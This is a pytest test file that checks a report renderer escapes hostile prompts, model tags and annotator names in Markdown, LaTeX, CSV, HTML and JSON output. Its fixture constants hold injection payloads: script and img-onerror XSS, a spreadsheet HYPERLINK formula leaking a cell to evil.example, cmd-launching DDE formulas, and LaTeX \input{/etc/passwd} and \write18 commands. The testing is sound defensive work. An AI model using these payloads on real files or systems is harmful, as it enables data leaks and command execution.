"""One escaping policy per output format (reports/render/formats.py): hostile prompts, model tags,
annotator names and category labels stay text in every file a report writes.

- Markdown (report.md and each table's .md), rendered by markdown-it with raw HTML enabled, makes
  no element the input did not ask for (no script, img, link, code) and no extra table cell.
- LaTeX: no control word of the input survives (\\input, \\write18, \\catcode), every special
  character is escaped, and every row has as many cells as the table has columns.
- CSV: no cell starts a spreadsheet formula unless it is a number; numbers stay numbers.
- HTML: the hostile strings are text, the page holds one script (its own), the CSP is in place.
- JSON: the exact strings, and no JSON inside any HTML page.
"""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from reports.render.formats import csv_cell, csv_frame, latex_escape, md_escape, to_latex, to_markdown
from reports.tables import ReportTable
from reports.testing import make_run, score_rows, step_eval_items
from tests.reports.helpers import write_bench

SCRIPT = "<script>alert(1)</script>"
PROMPTS = [
    SCRIPT,
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    r"\input{/etc/passwd} \write18{calc} \include{x} \catcode`\@=11 $x^2$ a_b ~ 50% #1 & {}",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example> `code` **bold** | pipe",
    "# not a heading",
    "- not a list | <img src=x onerror=alert(1)>",
    "-2+3+cmd|' /C calc'!A0",
    "1986. not a list either",
]
IMG_TAG = "<img src=x onerror=alert(1)>"  # enters through the judgments export and scores.parquet
TEX_TAG = r"\write18{calc}\input{x}"
FORMULA_TAG = "=1+2"
LINK_TAG = "[x](javascript:alert(1))"
QUOTED = "evil\"tag'<b>x"
TAGS = [IMG_TAG, TEX_TAG, FORMULA_TAG, LINK_TAG, QUOTED]
ANNOTATOR = "@SUM(1+9)*cmd|' /C calc'!A0"
HOSTILE = [*PROMPTS, *TAGS, ANNOTATOR]
MODELS = ["stepvideo-ti2v@motion_score=2", "static"]


@pytest.fixture(scope="module")
def report(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("escaping")
    items = step_eval_items(12)
    bench = write_bench(tmp / "bench", items.item_id, lambda n: PROMPTS[n] if n < len(PROMPTS) else f"a calm prompt {n}")
    # The focal model (the first) mostly loses, so per-item codes hold real negative numbers (-1).
    run, judgments = make_run(tmp / "run", MODELS, items=items, annotators=2, benchmark=bench, gold_per_annotator=0,
                              strengths=[-1.0, 1.0])
    judgments["annotator"] = judgments["annotator"].replace("annotator-1", ANNOTATOR)
    frames = [judgments]
    for tag in TAGS:
        extra = judgments.copy()
        extra["model_b"] = tag
        extra["task_id"] = extra["task_id"] + f"-{len(frames)}"
        frames.append(extra)
    pd.concat(frames).to_json(run.root / "judgments.jsonl", orient="records", lines=True, force_ascii=False)
    run.scores.append(score_rows(items, TAGS, seed=3))
    # Category labels are matched to the taxonomy by slug, so a hostile spelling comes out as the
    # taxonomy's own name ("Black background & colored lines" still carries an `&`).
    real = [i for i in items.item_id if i.startswith("real/")]
    anime = [i for i in items.item_id if i.startswith("anime/")]
    labels = tmp / "labels.csv"
    with labels.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["item_id", "category"])
        w.writerows([(real[0], "=Sports"), (real[1], "-Camera Motion"), (anime[0], "@Black background & colored lines"),
                     (anime[1], "+Children's drawings")])
    out = tmp / "report"
    res = subprocess.run([sys.executable, "-m", "stepeval.cli.main", "report", str(run.root), "--out", str(out),
                          "--annotations", str(run.root / "judgments.jsonl"), "--labels", str(labels),
                          "--bootstrap", "20", "--format", "html,json,csv,md,tex"],
                         capture_output=True, text=True)
    assert res.returncode == 0, res.stderr
    return out


# --------------------------------------------------------------------------- helpers


class _Html(HTMLParser):
    """Start tags (with attributes), text, and per table row the number of cells."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.texts: list[str] = []
        self.rows: list[int] = []
        self.stack: list[str] = []
        self.by_tag: dict[str, list[str]] = {}

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "tr":
            self.rows.append(0)
        elif tag in ("td", "th") and self.rows:
            self.rows[-1] += 1
        if tag not in ("br", "hr", "img", "meta", "input"):
            self.stack.append(tag)
            self.by_tag.setdefault(tag, []).append("")

    def handle_endtag(self, tag):
        if self.stack and self.stack[-1] == tag:
            self.stack.pop()

    def handle_data(self, data):
        self.texts.append(data)
        for tag in set(self.stack):
            self.by_tag[tag][-1] += data


def parse_html(text: str) -> _Html:
    p = _Html()
    p.feed(text)
    p.close()
    return p


def markdown_html(text: str) -> str:
    """CommonMark with raw HTML on, plus GFM tables and strikethrough (markdown-it's default set)."""
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)


def visible(text: str) -> str:
    """Text as a reader sees it: whitespace runs as one space (markdown-it turns NUL into U+FFFD)."""
    return " ".join(text.replace("\x00", "\ufffd").split())


MD_TAGS = {"h1", "h2", "h3", "p", "blockquote", "strong", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"}
LATEX_WORDS = {"caption", "label", "begin", "end", "centering", "small", "toprule", "midrule", "bottomrule", "par",
               "smallskip", "footnotesize", "textbf", "textbackslash", "textasciitilde", "textasciicircum",
               "textless", "textgreater", "textbar"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[-+]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")


# --------------------------------------------------------------------------- the report's files


def test_markdown_renders_hostile_strings_as_text(report):
    files = [report / "report.md", *sorted((report / "tables").glob("*.md"))]
    seen = ""
    for path in files:
        rendered = markdown_html(path.read_text(encoding="utf-8"))
        doc = parse_html(rendered)
        tags = {t for t, _ in doc.tags}
        assert tags <= MD_TAGS, (path.name, tags - MD_TAGS)
        # A pipe in a prompt or tag never adds a cell: every row of a table has its header's width.
        for table in re.findall(r"<table>.*?</table>", rendered, flags=re.S):
            widths = set(parse_html(table).rows)
            assert len(widths) == 1, (path.name, widths)
        seen += "\n".join(doc.texts)
    for s in HOSTILE:
        assert visible(s) in visible(seen), s


def test_report_md_title_and_warnings_are_escaped(report):
    md = (report / "report.md").read_text(encoding="utf-8")
    assert SCRIPT not in md and IMG_TAG not in md
    doc = parse_html(markdown_html(md))
    # Comparison page titles carry the hostile tags: as heading text, not markup.
    h2 = doc.by_tag["h2"]
    assert f"stepvideo-ti2v@motion_score=2 vs {IMG_TAG}" in h2 and f"stepvideo-ti2v@motion_score=2 vs {LINK_TAG}" in h2


def _latex_rows(tex: str) -> tuple[int, list[str]]:
    spec = re.search(r"\\begin\{tabular\}\{([lcr]+)\}", tex)
    body = tex[spec.end():tex.index("\\bottomrule")]
    rows = [line for line in body.split("\n") if line.endswith("\\\\")]
    return len(spec.group(1)), rows


def test_latex_has_no_command_from_the_input(report):
    files = sorted((report / "tables").glob("*.tex"))
    assert files
    everything = ""
    for path in files:
        tex = path.read_text(encoding="utf-8")
        body = "\n".join(line for line in tex.split("\n") if not line.startswith("%"))  # our own header comment
        words = set(re.findall(r"\\([A-Za-z]+)", body))
        assert words <= LATEX_WORDS, (path.name, words - LATEX_WORDS)
        for bad in ("\\input", "\\write18", "\\include", "\\catcode"):
            assert bad not in body
        # Outside the escapes, no character TeX treats specially (`&` only as our cell separator).
        bare = re.sub(r"\\(?:[A-Za-z]+|[&%$#_{}\\])", "", body)
        assert not re.search(r"[$#^_~%]", bare), path.name
        ncols, rows = _latex_rows(tex)
        for row in rows:
            cells = re.sub(r"\\&", "", row).count("&") + 1
            assert cells == ncols, (path.name, row)
        everything += body
    for prompt in PROMPTS:
        assert latex_escape(prompt) in everything, prompt
    for tag in TAGS:
        assert latex_escape(tag) in everything, tag
    assert r"\textbackslash{}input\{/etc/passwd\}" in everything
    assert latex_escape("Black background & colored lines") in everything


def test_csv_cells_never_start_a_formula(report):
    files = sorted((report / "tables").glob("*.csv"))
    cells = []
    for path in files:
        with path.open(newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                cells += [(path.name, c) for c in row]
    for name, cell in cells:
        assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), (name, cell)
    values = {c for _, c in cells}
    assert "'" + ANNOTATOR in values and "'" + FORMULA_TAG in values and "'" + PROMPTS[1] in values
    assert "'-Camera Motion" not in values and "Camera Motion" in values  # labels come out as the taxonomy's names
    # Real numbers stay numbers: per-item codes are -1/0/1 (Loss/Tie/Win) and read back as integers.
    loss = False
    for items_csv in (p for p in files if p.name.startswith("cmp-") and p.name.endswith("-items.csv")):
        codes = pd.read_csv(items_csv).drop(columns=["item_id", "prompt"])
        assert all(pd.api.types.is_numeric_dtype(codes[c]) for c in codes.columns), items_csv.name
        loss = loss or bool((codes == -1).any().any())
    assert loss
    # The win-fraction matrix has one column per model: a tag as a column name is guarded too.
    with (report / "tables" / "win-fraction.csv").open(newline="", encoding="utf-8") as f:
        header = next(csv.reader(f))
    assert "'" + FORMULA_TAG in header


def test_html_shows_hostile_strings_as_text(report):
    pages = [report / "index.html", *sorted((report / "comparisons").glob("*.html"))]
    assert len(pages) > 1
    text = ""
    for path in pages:
        raw = path.read_text(encoding="utf-8")
        doc = parse_html(raw)
        scripts = [t for t, _ in doc.tags if t == "script"]
        assert len(scripts) == 1 and "<img" not in raw and "<script>alert" not in raw and "<b>x" not in raw
        assert 'content="default-src \'none\';' in raw and "script-src 'sha256-" in raw
        for tag, attrs in doc.tags:
            assert not any(k.startswith("on") for k in attrs), (path.name, tag, attrs)
            if tag == "a":
                href = attrs["href"]
                # The gallery's address carries its filters percent-encoded (reports.gallery.href).
                assert re.fullmatch(r"(\.\./)?(index\.html|#[a-z0-9-]+|(comparisons|tables)/[A-Za-z0-9_.-]+"
                                    r"|gallery\.html(#[A-Za-z0-9%._~=&-]+)?)", href), href
        text += "\n".join(doc.texts)
    for s in HOSTILE:
        assert visible(s) in visible(text), s


def test_json_keeps_exact_strings_and_no_page_embeds_it(report):
    doc = json.loads((report / "report.json").read_text(encoding="utf-8"))
    assert set(TAGS) <= set(doc["meta"]["models"])
    rows = next(t for t in doc["tables"] if t["key"] == "run-items")["rows"]
    assert set(PROMPTS) <= {r["prompt"] for r in rows}
    for path in (report / "tables").glob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))
    for path in [report / "index.html", *(report / "comparisons").glob("*.html")]:
        assert '"rows":' not in path.read_text(encoding="utf-8")


def test_templates_mark_nothing_safe():
    templates = Path(__file__).resolve().parents[2] / "reports" / "templates"
    for path in templates.glob("*.j2"):
        source = path.read_text(encoding="utf-8")
        assert "|safe" not in source.replace(" ", "") and "autoescape false" not in source, path.name


# --------------------------------------------------------------------------- the escaping functions

SPECIAL = "<>&|`[]()!#*_~-+=.:/\\\"' \n\r\t\x0c0123456789aZ@$%^{}"
hostile_text = st.one_of(st.text(), st.text(alphabet=st.sampled_from(list(SPECIAL)), max_size=30),
                         st.sampled_from(HOSTILE))


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_text)
def test_md_escape_renders_back_to_the_text(text):
    table = ReportTable("t", text, pd.DataFrame({"x": [1]}), pd.DataFrame([[text, "1"]], columns=[text, "n"]),
                        caption=text, footnotes=[text], flags=[text], bold={(0, 0)})
    rendered = markdown_html(to_markdown(table))
    doc = parse_html(rendered)
    assert {t for t, _ in doc.tags} <= MD_TAGS
    assert set(doc.rows) == {2}
    want = visible(text)
    assert visible(doc.by_tag["h3"][0]) == want
    assert visible(doc.by_tag["th"][0]) == want and visible(doc.by_tag["td"][0]) == want
    assert visible(doc.by_tag["li"][0]) == want
    assert visible(doc.by_tag["blockquote"][0]) == visible(f"Warning: {text}")
    assert want in [visible(p) for p in doc.by_tag["p"]] or not want
    assert md_escape(text).strip() == md_escape(text)


_LATEX_TOKEN = re.compile(r"\\(textbackslash|textasciitilde|textasciicircum|textless|textgreater|textbar)\{\}"
                          r"|\\([&%$#_{}])|\{([\[\]])\}")
_LATEX_BACK = {"textbackslash": "\\", "textasciitilde": "~", "textasciicircum": "^", "textless": "<",
               "textgreater": ">", "textbar": "|"}


@settings(max_examples=500, deadline=None)
@given(hostile_text)
def test_latex_escape_keeps_no_command_of_the_input(text):
    out = latex_escape(text)
    # Outside our own escapes nothing TeX reads as markup is left: no backslash, brace, special
    # character or control character from the input.
    rest = _LATEX_TOKEN.sub("", out)
    assert not re.search(r"[\\{}$&#^_~%\x00-\x1f\x7f]", rest)
    back = _LATEX_TOKEN.sub(lambda m: _LATEX_BACK.get(m.group(1)) or m.group(2) or m.group(3), out)
    assert back == re.sub(r"[\x00-\x1f\x7f]", " ", text).replace('"', "''")
    tex = to_latex(ReportTable("t", text, pd.DataFrame({"x": [1]}), pd.DataFrame([[text, text]], columns=[text, "n"])))
    ncols, rows = _latex_rows(tex)
    assert all(re.sub(r"\\&", "", r).count("&") + 1 == ncols for r in rows)


@settings(max_examples=500, deadline=None)
@given(st.one_of(hostile_text, st.integers().map(str), st.floats(allow_nan=False, allow_infinity=False).map(str)))
def test_csv_cell_guard_is_idempotent_and_keeps_numbers(text):
    once = csv_cell(text)
    assert csv_cell(once) == once
    assert once in (text, "'" + text)
    assert not once.startswith(FORMULA_START) or NUMBER.fullmatch(once)
    if NUMBER.fullmatch(text):
        assert once == text


@given(st.lists(st.tuples(st.integers(-5, 5), st.floats(-1e6, 1e6), hostile_text), min_size=1, max_size=8))
@settings(max_examples=100, deadline=None)
def test_csv_frame_guards_text_columns_only(rows):
    frame = pd.DataFrame(rows, columns=["code", "value", "=label"])
    written = csv_frame(frame)
    assert list(written.columns) == ["code", "value", "'=label"]
    assert written["code"].tolist() == frame["code"].tolist() and written["value"].tolist() == frame["value"].tolist()
    assert written["'=label"].tolist() == [csv_cell(t) for t in frame["=label"]]
    assert frame.columns[2] == "=label"  # the report's own data is not changed
